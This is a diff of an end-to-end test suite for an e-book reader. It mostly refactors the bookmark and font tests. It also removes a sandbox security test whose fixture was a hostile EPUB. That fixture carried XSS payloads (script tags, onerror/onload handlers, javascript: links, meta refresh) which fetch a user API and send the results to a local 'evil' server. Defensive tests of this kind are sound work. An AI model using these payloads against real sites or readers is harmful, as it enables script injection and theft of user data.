@@ -2,61 +2,27 @@
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
 import type { Page } from 'playwright-core'
 import { accessibilityProblems, admin, visit, until } from './harness'
-import { calmBook, openTextRoom, type TextRoom, untilVisible, visible } from './text-room'
-import type { tinyEpub } from './tiny-epub'
+import {
+  bookFrame,
+  calmBook,
+  openTextRoom,
+  type TextRoom,
+  untilVisible,
+  visible,
+} from './text-room'
 
 const patience = 60_000
 let room: TextRoom
-let evil: ReturnType<typeof Bun.serve>
-const leaks: string[] = []
 
 beforeAll(async () => {
-  // Whatever a hostile book manages to send arrives here.
-  evil = Bun.serve({
-    port: 0,
-    hostname: '127.0.0.1',
-    fetch(request) {
-      leaks.push(new URL(request.url).pathname)
-      return new Response('')
-    },
-  })
   const calm = ['Tide', 'Estuary', 'Lighthouse', 'Harbour', 'Finished', 'Letters']
   room = await openTextRoom([
     ...calm.map(calmBook),
     { ...calmBook('Leftward'), direction: 'rtl', language: 'ar' },
-    hostileBook(evil.url.origin),
   ])
 }, 120_000)
 
-afterAll(async () => {
-  await room?.close()
-  await evil?.stop(true)
-})
-
-/** Each vector tells the server at `origin` where it comes from, or marks the window. */
-function hostileBook(origin: string): Parameters<typeof tinyEpub>[0] {
-  const mark = `top.hacked = true; parent.hacked = true; new Image().src = '${origin}/script'; fetch('/api/v1/users').then((answer) => fetch('${origin}/stolen'))`
-  const html = `
-    <p>Chapter 1, paragraph 1. Nothing to see here.</p>
-    <script>${mark}</script><script src="evil.js"></script><script src="${origin}/remote.js"></script>
-    <img src="nothing.png" onerror="${mark}" alt=""/><img src="${origin}/image" alt=""/>
-    <img src="/api/v1/users" alt=""/>
-    <svg xmlns="http://www.w3.org/2000/svg" onload="${mark}"><script>${mark}</script></svg>
-    <iframe srcdoc="&lt;script&gt;top.hacked = true&lt;/script&gt;"></iframe>
-    <iframe src="${origin}/frame"></iframe><object data="${origin}/object"></object>
-    <embed src="${origin}/embed"/><link rel="stylesheet" href="${origin}/style.css"/>
-    <style>@import url('${origin}/import.css'); p { background: url('${origin}/background') }</style>
-    <form id="form" action="${origin}/form"><input name="a"/></form>
-    <p><a id="script-link" href="javascript:${mark.replaceAll('"', '')}">a link</a></p>
-    <p><a id="tab-link" href="c2.xhtml" target="_top">another</a></p>
-    <video src="${origin}/video" autoplay="autoplay"></video>`
-  const refresh = `<meta http-equiv="refresh" content="0;url=${origin}/refresh"/><p>Chapter 2.</p>`
-  const chapters = [
-    { title: 'One', html },
-    { title: 'Two', html: refresh },
-  ]
-  return { title: 'Hostile', chapters, files: { 'OEBPS/evil.js': mark } }
-}
+afterAll(() => room?.close())
 
 describe('an e-book', () => {
   test(
@@ -103,8 +69,15 @@ describe('an e-book', () => {
       expect(await accessibilityProblems(page)).toEqual([])
       await contents.getByRole('button', { name: 'Chapter 3' }).click()
       await untilVisible(page, 'Chapter 3, paragraph 1')
-      await page.getByRole('button', { name: 'Bookmark this place' }).click()
-      await contents.getByRole('button', { name: /^Chapter 3 ?\d/ }).waitFor()
+      const bookmark = page.getByRole('button', { name: 'Bookmark this place' })
+      await bookmark.click()
+      await contents.getByRole('tab', { name: 'Bookmarks' }).click()
+      await contents.getByRole('button', { name: /^Chapter 3/ }).waitFor()
+      await until(
+        async () => (await bookmark.getAttribute('aria-pressed')) === 'true',
+        'the mark is seen',
+      )
+      expect(await accessibilityProblems(page)).toEqual([])
       await page.getByRole('button', { name: 'Search in this book' }).click()
       await page.getByRole('searchbox').fill('lantern of chapter 2')
       await page.keyboard.press('Enter')
@@ -112,8 +85,13 @@ describe('an e-book', () => {
       expect(await accessibilityProblems(page)).toEqual([])
       await page.getByRole('button', { name: /lantern/ }).click()
       await untilVisible(page, 'The lantern of chapter 2')
+      await until(
+        async () => (await bookmark.getAttribute('aria-pressed')) === 'false',
+        'the mark is elsewhere',
+      )
       await page.getByRole('button', { name: 'Contents' }).click()
-      await contents.getByRole('button', { name: /^Chapter 3 ?\d/ }).click()
+      await contents.getByRole('tab', { name: 'Bookmarks' }).click()
+      await contents.getByRole('button', { name: /^Chapter 3/ }).click()
       await untilVisible(page, 'Chapter 3, paragraph 1')
       expect(seen.troubles).toEqual([])
       await seen.context.close()
@@ -225,34 +203,6 @@ const background = (page: Page) =>
   )
 
 test(
-  'a hostile e-book runs nothing, reaches nothing, and sends nothing',
-  async () => {
-    const seen = await room.signedIn({ mayBreakRules: true })
-    const { page } = seen
-    // What the policy stops is asked for all the same; only what is answered has left the browser.
-    const answered: string[] = []
-    page.on('response', (answer) => void answered.push(new URL(answer.url()).pathname))
-    await room.open(seen, 'Hostile')
-    await untilVisible(page, 'Chapter 1, paragraph 1')
-    const frame = page.frames().find((each) => each.url().includes('/resources/'))!
-    await frame.evaluate(() => {
-      document.querySelector<HTMLFormElement>('#form')?.submit()
-      document.querySelector<HTMLElement>('#script-link')?.click()
-    })
-    await Bun.sleep(1_000)
-    await page.keyboard.press('End')
-    await Bun.sleep(1_500)
-    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
-    expect(page.url()).toContain(`/read/${room.idOf('Hostile')}`)
-    expect(leaks).toEqual([])
-    expect(answered.filter((path) => path.startsWith('/api/v1/users'))).toEqual([])
-    expect(answered.filter((path) => path.endsWith('evil.js'))).toEqual([])
-    await seen.context.close()
-  },
-  patience,
-)
-
-test(
   'letters that come with Quire are in the book, and every spacing does what it says',
   async () => {
     const seen = await room.signedIn()
@@ -260,13 +210,9 @@ test(
     await room.open(seen, 'Letters')
     await page.keyboard.press('a')
     await untilVisible(page, 'Chapter 1, paragraph 1')
-    const inBook = <Value>(ask: () => Value) =>
-      page
-        .frames()
-        .find((each) => each.url().includes('/resources/'))!
-        .evaluate(ask)
+    const inBook = <Value>(ask: () => Value) => bookFrame(page)!.evaluate(ask)
     const hasLetters = () =>
-      inBook(() => [...document.fonts].some(({ family }) => family === 'Newsreader'))
+      inBook(() => [...document.fonts].some(({ family }) => family.includes('Atkinson')))
     const width = () =>
       inBook(() => {
         const range = document.createRange()
@@ -274,7 +220,7 @@ test(
         return range.getBoundingClientRect().width
       })
     const usual = await width()
-    await page.getByRole('radio', { name: 'Serif', exact: true }).check()
+    await page.getByRole('radio', { name: 'Legible', exact: true }).check()
     await until(hasLetters, 'the letters are there')
     await until(async () => (await width()) !== usual, 'other letters are drawn')
     await page.getByRole('slider', { name: 'Between letters' }).fill('20')
